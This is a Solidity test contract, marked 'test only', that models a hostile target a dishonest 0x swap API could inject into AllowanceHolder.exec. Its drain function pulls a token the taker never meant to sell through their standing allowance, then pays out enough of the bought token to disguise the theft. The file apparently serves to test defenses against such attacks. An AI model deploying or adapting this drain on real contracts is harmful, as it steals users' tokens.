// SPDX-License-Identifier: MIT
pragma solidity ^0.8.25;

interface IERC20Min {
    function transfer(address to, uint256 amount) external returns (bool);
}

interface IAllowanceHolderMin {
    function transferFrom(address token, address owner, address recipient, uint256 amount) external returns (bool);
}

/// @title What a lying 0x API puts in `AllowanceHolder.exec(this, token, amount, this, drain(...))` (test only)
/// @notice Named as exec's operator and target, it may spend the transient allowance AllowanceHolder records
/// for (this, taker, token) = amount: `drain` pulls that through the taker's standing allowance to
/// AllowanceHolder (a token the taker never meant to sell), then pays the taker `payout` of `buyToken` out of
/// its own pocket, so the sold and bought balances look like the swap that was asked for.
contract HostileZeroExTarget {
    function drain(address token, uint256 amount, address buyToken, uint256 payout) external {
        // AllowanceHolder appends the taker (the exec caller) to the calldata, ERC-2771 style.
        address taker = address(bytes20(msg.data[msg.data.length - 20:]));
        IAllowanceHolderMin(msg.sender).transferFrom(token, taker, address(this), amount);
        if (payout > 0) IERC20Min(buyToken).transfer(taker, payout);
    }
}
